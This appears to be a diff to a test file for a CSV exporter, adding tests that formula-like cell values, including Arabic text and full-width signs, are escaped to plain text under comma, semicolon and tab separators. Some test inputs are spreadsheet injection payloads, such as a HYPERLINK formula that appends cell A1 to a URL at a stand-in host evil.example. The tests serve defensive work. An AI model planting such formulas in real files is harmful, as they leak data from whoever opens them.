@@ -43,8 +43,8 @@ describe('a cell', () => {
     ['+218 91', "'+218 91"],
     ['-5', "'-5"],
     ['@SUM(A1)', "'@SUM(A1)"],
-    ['\t=1', `"'\t=1"`],
-    ['\r=1', `"'\r=1"`],
+    ['\t=1', `"'\t'=1"`],
+    ['\r=1', `"'\r'=1"`],
     ['\nأ', `"'\nأ"`],
     ['\tأ', `"'\tأ"`],
     ['  =1', "'  =1"],
@@ -54,5 +54,47 @@ describe('a cell', () => {
     ['=HYPERLINK("https://evil.example","اضغط")', `"'=HYPERLINK(""https://evil.example"",""اضغط"")"`],
   ])('that begins like a formula, %j, is text', (value, written) => {
     expect(cell(value)).toBe(written);
+  });
+});
+
+describe('no cell calculates, wherever a spreadsheet parts them', () => {
+  const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+  const texts = SIGNS.flatMap((sign) => [
+    `رأيي;${sign}HYPERLINK("http://evil.example/?"&A1,"x");تمام`, `سطر\n${sign}1+1`, `سطر\r\n${sign}1+1`, `سطر\r${sign}1`, `أ\t${sign}1`, `أ;"${sign}1"`, `أ; \u200F${sign}1`,
+    `أ;;\t\n${sign}1`, `;${sign}1`, `أ\u2028${sign}1`, `أ,${sign}1`, `"${sign}1"`, `أ";${sign}1`,
+  ]);
+
+  /** As a spreadsheet takes a file apart at a sign: quotation marks count only where they begin a cell. */
+  function read(file: string, separator: string): string[] {
+    const cells: string[] = [];
+    for (let at = 0; at < file.length; ) {
+      let text = '';
+      if (file[at] === '"') {
+        for (at++; at < file.length; at++) {
+          if (file[at] !== '"') text += file[at];
+          else if (file[at + 1] === '"') text += file[at++];
+          else {
+            at++;
+            break;
+          }
+        }
+      }
+      while (at < file.length && file[at] !== separator && !/[\r\n\v\f\u0085\u2028\u2029]/.test(file[at]!)) text += file[at++];
+      cells.push(text);
+      at++;
+    }
+    return cells;
+  }
+
+  it.each([',', ';', '\t'])('at %j', (separator) => {
+    for (const text of texts) {
+      const calculating = read(toCsv([['اسم', text, 'آخر'], [text, 1]]), separator).filter((each) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(each));
+      expect({ text, calculating }).toEqual({ text, calculating: [] });
+    }
+  });
+
+  it('and what is no formula stays as it was written', () => {
+    expect(cell('أ; ب - ج')).toBe('"أ; ب - ج"');
+    expect(cell('قال: ١+١=٢')).toBe('قال: ١+١=٢');
   });
 });
